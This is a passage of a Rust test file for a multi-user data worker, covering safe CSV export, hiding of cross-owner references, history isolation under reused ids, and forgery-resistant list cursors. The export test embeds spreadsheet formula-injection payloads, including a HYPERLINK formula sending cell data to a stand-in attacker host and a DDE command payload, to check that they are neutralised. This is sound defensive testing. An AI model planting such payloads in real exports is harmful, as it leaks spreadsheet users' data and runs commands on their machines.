    request.actor.as_mut().unwrap().access = AppAccess::Manage.to_wire();
    assert_eq!(execute(&worker, request).unwrap()["imported"], 1);
}

#[test]
fn an_export_never_hands_a_spreadsheet_a_formula_and_imports_back_unchanged() {
    let dir = tempfile::tempdir().unwrap();
    let worker = Worker::new(dir.path(), None, crate::ownership::Ownership::single());
    let contract = import_contract();
    let call = |user: &str, access: &str, operation: &str, json: Value| {
        let mut request = acting(&contract, (user, access), operation, "entries", json);
        request.source = CallSource::Mcp.to_wire();
        execute(&worker, request)
    };
    // A colleague's notes, each something a spreadsheet would run.
    let notes = [
        r#"=HYPERLINK("https://attacker.test/?"&A1,"Open")"#,
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "'=already marked",
        "plain, with a comma",
    ];
    for (at, note) in notes.iter().enumerate() {
        call(
            "mallory",
            "use",
            "create",
            serde_json::json!({
                "values": {"date": "2026-01-05", "hours": at as f64 + 0.5, "note": note},
                "idempotencyKey": format!("n{at}"),
            }),
        )
        .unwrap();
    }
    // The manager (managersReadAll) downloads everyone's rows.
    let exported = call(
        "boss",
        "manage",
        "export",
        serde_json::json!({"orderBy": [{"field": "id"}]}),
    )
    .unwrap();
    let csv = exported["csv"].as_str().unwrap();
    let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .map(|record| record.unwrap()[3].to_owned())
        .collect();
    assert_eq!(cells.len(), notes.len());
    for cell in &cells {
        assert!(
            !cell.starts_with(grammar::csv::FORMULA_TRIGGERS.as_slice()),
            "{cell:?} would run as a formula"
        );
    }
    assert_eq!(cells[0], format!("'{}", notes[0]));
    assert_eq!(cells[7], notes[7]);

    // Importing the download gives back every note exactly.
    let imported = call(
        "boss",
        "manage",
        "import",
        serde_json::json!({"csv": csv, "idempotencyKey": "back"}),
    )
    .unwrap();
    assert_eq!(imported["imported"], notes.len());
    let listed = call(
        "boss",
        "use",
        "list",
        serde_json::json!({"orderBy": [{"field": "id"}], "select": ["note"]}),
    )
    .unwrap();
    let back: Vec<&str> = listed["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["note"].as_str().unwrap())
        .collect();
    assert_eq!(back, notes);
}

/// `notes` owned through `author`; `comments` (shared) and `replies` (owned)
/// refer to a note; `pairs` (shared) refers to a note and to a shared tag.
fn reference_contract() -> DataContract {
    let owned = || TableDeclaration {
        access: Access::Owner,
        owner_field: Some("author".into()),
        ..shared()
    };
    contract_of(
        "CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT, author TEXT NOT NULL);\
         CREATE TABLE tags (id INTEGER PRIMARY KEY, label TEXT);\
         CREATE TABLE comments (id INTEGER PRIMARY KEY, note INTEGER REFERENCES notes(id), body TEXT);\
         CREATE TABLE replies (id INTEGER PRIMARY KEY, note INTEGER NOT NULL REFERENCES notes(id), author TEXT NOT NULL);\
         CREATE TABLE pairs (id INTEGER PRIMARY KEY, first INTEGER REFERENCES notes(id), tag INTEGER REFERENCES tags(id));",
        vec![
            ("notes", owned()),
            ("tags", shared()),
            ("comments", shared()),
            ("replies", owned()),
            ("pairs", shared()),
        ],
    )
}

#[test]
fn a_reference_to_another_owners_row_answers_like_a_missing_one_and_cannot_pin_it() {
    let dir = tempfile::tempdir().unwrap();
    let worker = Worker::new(dir.path(), None, crate::ownership::Ownership::single());
    let contract = reference_contract();
    let key = std::sync::atomic::AtomicUsize::new(0);
    let call = |user: &str, operation: &str, table: &str, mut json: Value| {
        let key = key.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        if sasha_contract::grammar::is_mutating(operation) {
            json["idempotencyKey"] = serde_json::json!(format!("k{key}"));
        }
        execute(
            &worker,
            acting(&contract, (user, "use"), operation, table, json),
        )
    };
    let bobs = call(
        "bob",
        "create",
        "notes",
        serde_json::json!({"values": {"body": "bob's"}}),
    )
    .unwrap()["id"]
        .clone();
    let alices = call(
        "alice",
        "create",
        "notes",
        serde_json::json!({"values": {"body": "alice's"}}),
    )
    .unwrap()["id"]
        .clone();
    call(
        "alice",
        "create",
        "tags",
        serde_json::json!({"values": {"label": "t"}}),
    )
    .unwrap();
    let comment = call(
        "alice",
        "create",
        "comments",
        serde_json::json!({"values": {"note": alices, "body": "mine"}}),
    )
    .unwrap();

    // Every way alice can point at bob's note, as (table, operation, request).
    let attempts = [
        (
            "comments",
            "create",
            serde_json::json!({"values": {"note": bobs, "body": "x"}}),
        ),
        (
            "comments",
            "update",
            serde_json::json!({"id": comment["id"], "changes": {"note": bobs}, "expectedVersion": 1}),
        ),
        (
            "replies",
            "create",
            serde_json::json!({"values": {"note": bobs}}),
        ),
        (
            "comments",
            "import",
            serde_json::json!({"csv": format!("note,body\n{alices},ok\n{bobs},x\n")}),
        ),
        // With a second, truly missing reference: the first is still the one named.
        (
            "pairs",
            "create",
            serde_json::json!({"values": {"first": bobs, "tag": 99}}),
        ),
    ];
    let answers = |user: &str| -> Vec<(ErrorCode, String, Option<Value>)> {
        attempts
            .iter()
            .map(|(table, operation, json)| {
                let error = call(user, operation, table, json.clone()).unwrap_err();
                (error.code, error.message, error.details)
            })
            .collect()
    };
    let while_bobs_exists = answers("alice");
    assert_eq!(
        while_bobs_exists[0],
        (
            ErrorCode::InputInvalid,
            format!("note: notes {bobs} does not exist"),
            Some(
                serde_json::json!({"table": "comments", "field": "note", "value": bobs, "references": "notes", "rule": "reference"})
            ),
        )
    );
    assert!(
        while_bobs_exists[3].1.starts_with("row 2: "),
        "{:?}",
        while_bobs_exists[3]
    );
    assert_eq!(while_bobs_exists[4].2.as_ref().unwrap()["field"], "first");
    // Nothing was written: alice's comment still points at her own note.
    let kept = call("alice", "list", "comments", serde_json::json!({})).unwrap();
    assert_eq!(kept["rows"].as_array().unwrap().len(), 1, "{kept}");
    assert_eq!(kept["rows"][0]["note"], alices);

    // Nothing of alice's pins bob's note: he deletes it.
    call(
        "bob",
        "delete",
        "notes",
        serde_json::json!({"id": bobs, "expectedVersion": 1}),
    )
    .unwrap();
    // Now that it is missing, alice gets exactly the answers she got before.
    assert_eq!(answers("alice"), while_bobs_exists);

    // Her own note she may refer to from every table.
    call(
        "alice",
        "create",
        "replies",
        serde_json::json!({"values": {"note": alices}}),
    )
    .unwrap();
    call(
        "alice",
        "create",
        "pairs",
        serde_json::json!({"values": {"first": alices, "tag": 1}}),
    )
    .unwrap();
}

#[test]
fn a_reused_row_id_shows_no_one_the_history_of_anothers_row() {
    let dir = tempfile::tempdir().unwrap();
    let worker = Worker::new(dir.path(), None, crate::ownership::Ownership::single());
    let contract = policy_contract();
    let call = |user: &str, access: &str, operation: &str, json: Value| {
        execute(
            &worker,
            acting(&contract, (user, access), operation, "entries", json),
        )
    };
    // Alice's row goes; SQLite gives its id (the highest) to bob's next row.
    let alices = call(
        "alice",
        "use",
        "create",
        serde_json::json!({"values": {"hours": 1.0}, "idempotencyKey": "a1"}),
    )
    .unwrap();
    call(
        "alice",
        "use",
        "delete",
        serde_json::json!({"id": alices["id"], "expectedVersion": 1, "idempotencyKey": "a2"}),
    )
    .unwrap();
    let bobs = call(
        "bob",
        "use",
        "create",
        serde_json::json!({"values": {"hours": 7.5}, "idempotencyKey": "b1"}),
    )
    .unwrap();
    assert_eq!(bobs["id"], alices["id"], "the id is reused");

    // Each reads the history of their own row under that id, and nothing of
    // the other's.
    let history = |user: &str| {
        call(
            user,
            "use",
            "history",
            serde_json::json!({"id": bobs["id"]}),
        )
        .map(|history| history["entries"].as_array().unwrap().clone())
    };
    let alice = history("alice").unwrap();
    let operations: Vec<&Value> = alice.iter().map(|entry| &entry["operation"]).collect();
    assert_eq!(operations, ["create", "delete"]);
    assert!(
        alice.iter().all(|entry| entry["actor"] == "alice"),
        "{alice:?}"
    );
    let bob = history("bob").unwrap();
    assert_eq!(bob.len(), 1, "{bob:?}");
    assert_eq!(bob[0]["after"]["hours"], 7.5);
    // A manager of the managersReadAll table reads every entry under the id.
    let everyone = call(
        "boss",
        "manage",
        "history",
        serde_json::json!({"id": bobs["id"]}),
    )
    .unwrap();
    assert_eq!(everyone["entries"].as_array().unwrap().len(), 3);
}

/// One page of alice's list of notes (two a page) after `cursor`: the
/// bodies and the next cursor.
fn page(
    worker: &Worker,
    contract: &DataContract,
    cursor: Option<&str>,
) -> Result<(Vec<Value>, Option<String>), AppError> {
    let mut query = serde_json::json!({"limit": 2});
    if let Some(cursor) = cursor {
        query["cursor"] = cursor.into();
    }
    let listed = execute(worker, request(contract, "list", query, ""))?;
    let bodies = listed["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["body"].clone())
        .collect();
    Ok((bodies, listed["nextCursor"].as_str().map(str::to_owned)))
}

/// A worker over `root` whose `APP_DATA_ROOT` holds `old_key` as an older
/// data-worker's key for every app.
fn worker_with_old_key(root: &Path, old_key: [u8; 32]) -> Worker {
    std::fs::write(root.join(crate::engine::cursor_key::LEGACY_FILE), old_key).unwrap();
    Worker::new(root, None, crate::ownership::Ownership::single())
}

/// The app's committed state copied into `root`, as the worker the app
/// moves to holds it (restored from object storage, or handed over).
fn copy_live_into(from: &Path, root: &Path) {
    let source = rusqlite::Connection::open(from.join(format!("{APP}.sqlite"))).unwrap();
    let target = root.join(format!("{APP}.sqlite"));
    source
        .execute("VACUUM INTO ?1", [target.to_str().unwrap()])
        .unwrap();
}

/// The cursor a cursor with its MAC's last character changed.
fn forged(cursor: &str) -> String {
    let mut forged = cursor.to_owned();
    let last = forged.pop().unwrap();
    forged.push(if last == 'A' { 'B' } else { 'A' });
    forged
}

fn assert_bad_cursor(result: Result<(Vec<Value>, Option<String>), AppError>) {
    let error = result.unwrap_err();
    assert_eq!(error.code, ErrorCode::InputInvalid, "{error:?}");
    assert!(error.message.contains("cursor"), "{}", error.message);
}

#[test]
fn a_list_cursor_is_accepted_by_the_worker_the_app_moves_to() {
    let live = contract_with(&[FIRST]);
    let old = tempfile::tempdir().unwrap();
    let owner = worker_with_old_key(old.path(), [1; 32]);
    for body in ["one", "two", "three"] {
        execute(
            &owner,
            request(
                &live,
                "create",
                serde_json::json!({"values": {"body": body}, "idempotencyKey": body}),
                "",
            ),
        )
        .unwrap();
    }
    let (first, cursor) = page(&owner, &live, None).unwrap();
    assert_eq!(first, ["one", "two"]);
    let cursor = cursor.unwrap();

    // The new owner has an APP_DATA_ROOT of its own, with another
    // worker-wide key from before keys were per app.
    let new = tempfile::tempdir().unwrap();
    copy_live_into(old.path(), new.path());
    let next_owner = worker_with_old_key(new.path(), [2; 32]);
    assert_eq!(
        page(&next_owner, &live, Some(&cursor)).unwrap(),
        (vec![Value::from("three")], None)
    );
    assert_bad_cursor(page(&next_owner, &live, Some(&forged(&cursor))));
    // The old owner still reads it the same way (nothing was rekeyed).
    assert_eq!(page(&owner, &live, Some(&cursor)).unwrap().0, ["three"]);
}

#[test]
fn a_cursor_issued_before_keys_were_per_app_keeps_working() {
    let live = contract_with(&[FIRST]);
    let old_key = [3; 32];
    // The cursor an older worker gave alice for the second page, under its
    // worker-wide key (the grammar's MAC is unchanged).
    let (declaration, table) = live.declared_table("notes").unwrap();
    let spec = TableSpec::new(table, declaration);
    let grammar::Request::List(query) =
        grammar::parse_value("list", &spec, serde_json::json!({"limit": 2})).unwrap()
    else {
        panic!("a list");
    };
    let (_, plan) = grammar::list_statement(&spec, &query, "alice", &old_key).unwrap();
    let rows = (1..=3)
        .map(|id| serde_json::json!({"id": id}).as_object().unwrap().clone())
        .collect();
    let old_cursor = plan.finish_page(rows, &old_key).1.unwrap();

    // A file that older worker set up: data, and no key of its own.
    let set_up_before = |dir: &tempfile::TempDir| {
        let worker = Worker::new(dir.path(), None, crate::ownership::Ownership::single());
        for body in ["one", "two", "three"] {
            execute(
                &worker,
                request(
                    &live,
                    "create",
                    serde_json::json!({"values": {"body": body}, "idempotencyKey": body}),
                    "",
                ),
            )
            .unwrap();
        }
        drop(worker);
        rusqlite::Connection::open(dir.path().join(format!("{APP}.sqlite")))
            .unwrap()
            .execute_batch("DROP TABLE _sasha_cursor_key")
            .unwrap();
    };

    // Its worker upgraded: the file keeps the old key, and the cursor works.
    let dir = tempfile::tempdir().unwrap();
    set_up_before(&dir);
    let upgraded = worker_with_old_key(dir.path(), old_key);
    assert_eq!(
        page(&upgraded, &live, Some(&old_cursor)).unwrap(),
        (vec![Value::from("three")], None)
    );
    assert_eq!(
        page(&upgraded, &live, None).unwrap().1.as_deref(),
        Some(old_cursor.as_str())
    );
    assert_bad_cursor(page(&upgraded, &live, Some(&forged(&old_cursor))));

    // The same file under a worker whose old key was another: the file
    // takes that one, which the cursor does not match.
    let dir = tempfile::tempdir().unwrap();
    set_up_before(&dir);
    let other = worker_with_old_key(dir.path(), [4; 32]);
    assert_bad_cursor(page(&other, &live, Some(&old_cursor)));
}
